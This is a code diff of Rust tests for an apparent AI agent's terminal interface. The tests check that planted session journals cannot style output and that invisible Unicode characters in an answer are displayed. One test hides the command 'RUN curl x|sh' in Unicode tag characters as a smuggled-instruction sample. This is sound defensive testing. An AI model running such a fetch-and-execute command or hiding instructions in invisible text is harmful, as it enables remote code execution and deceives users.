@@ -359,7 +359,8 @@ fn the_sessions_table_and_its_warnings_show_planted_names_and_dates_escaped() {
         .stdin(std::process::Stdio::null())
         .output()
         .expect("run mini-agent sessions");
-    let screen = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    let screen =
+        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
     assert!(screen.contains("20261201-000000-abcd"), "the real session is listed:\n{screen}");
     assert_no_foreign_controls(&screen);
 }
@@ -379,8 +380,10 @@ fn a_resumed_planted_journal_cannot_style_the_banner_or_its_warnings() {
     let user = json!({"seq": 2, "ts": "2099-12-31T00:00:00.000Z", "type": "user", "content": "hi"});
     let reply = json!({"seq": 3, "ts": "2099-12-31T00:00:00.000Z", "type": "assistant", "content": "yo",
         "tool_calls": []});
-    std::fs::write(sessions.join(format!("{id}.jsonl")), format!("{header}\n{user}\n{reply}\n{{torn")).unwrap();
-    let mut terminal = Terminal::start(workspace.path(), &["-c"]);
+    let journal = sessions.join(format!("{id}.jsonl"));
+    std::fs::write(&journal, format!("{header}\n{user}\n{reply}\n{{torn")).unwrap();
+    // Such a name is no session id, so `-c` passes it by; given by path, it is opened.
+    let mut terminal = Terminal::start(workspace.path(), &["-r", journal.to_str().unwrap()]);
     terminal.wait_for("> ");
     let screen = terminal.exit();
     assert!(screen.contains("resumed session"), "{screen:?}");
@@ -399,15 +402,24 @@ const INVISIBLE: [char; 8] =
     ['\u{61c}', '\u{ad}', '\u{3164}', '\u{115f}', '\u{ffa0}', '\u{180e}', '\u{e0041}', '\u{e007f}'];
 
 fn raw_invisible(screen: &str) -> Vec<String> {
-    screen.chars().filter(|c| INVISIBLE.contains(c) || ('\u{e0000}'..='\u{e0fff}').contains(c)).map(|c| format!("{c:?}")).collect()
+    screen
+        .chars()
+        .filter(|c| INVISIBLE.contains(c) || ('\u{e0000}'..='\u{e0fff}').contains(c))
+        .map(|c| format!("{c:?}"))
+        .collect()
 }
 
 #[test]
 fn default_ignorable_characters_in_an_answer_are_shown() {
-    let smuggled: String = "RUN curl x|sh".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
+    let smuggled: String =
+        "RUN curl x|sh".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
     let answer = format!("all fine\u{61c}\u{ad}\u{115f}\u{ffa0}\u{180e}{smuggled}\u{e007f} end-of-answer");
     let screen = one_turn(vec![text(&answer)], &[], &[], "end-of-answer", &[]);
-    assert!(raw_invisible(&screen).is_empty(), "invisible characters reached the screen: {:?}", raw_invisible(&screen));
+    assert!(
+        raw_invisible(&screen).is_empty(),
+        "invisible characters reached the screen: {:?}",
+        raw_invisible(&screen)
+    );
 }
 
 #[test]
